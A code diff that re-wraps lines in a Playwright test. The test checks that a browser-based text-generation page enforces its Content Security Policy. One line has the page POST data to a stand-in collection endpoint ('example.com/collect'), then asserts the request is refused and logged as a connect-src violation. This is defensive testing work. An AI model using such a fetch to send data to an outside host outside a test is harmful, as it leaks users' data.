@@ -10,7 +10,9 @@ test('the policy is in the page, a whole generation runs without a violation, an
 		if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
 	});
 	await page.addInitScript(() => {
-		document.addEventListener('securitypolicyviolation', (e) => console.log(`Content Security Policy violation: ${e.violatedDirective} ${e.blockedURI}`));
+		document.addEventListener('securitypolicyviolation', (e) =>
+			console.log(`Content Security Policy violation: ${e.violatedDirective} ${e.blockedURI}`)
+		);
 	});
 	await openApp(page, { max_tokens: 8, seed: 3, prompt: 'The cat' });
 	// The served page's <meta> (read from the file: the live DOM may not keep it after hydration; the policy stays in force).
@@ -22,7 +24,12 @@ test('the policy is in the page, a whole generation runs without a violation, an
 	await waitForModel(page);
 	expect((await generateText(page)).length).toBeGreaterThan(0);
 	expect(violations).toEqual([]);
-	const blocked = await page.evaluate(() => fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(() => 'sent', (e) => `refused: ${e}`));
+	const blocked = await page.evaluate(() =>
+		fetch('https://example.com/collect', { method: 'POST', body: 'x' }).then(
+			() => 'sent',
+			(e) => `refused: ${e}`
+		)
+	);
 	expect(blocked).toMatch(/^refused/);
 	await expect.poll(() => violations.some((v) => v.includes('connect-src'))).toBe(true);
 });
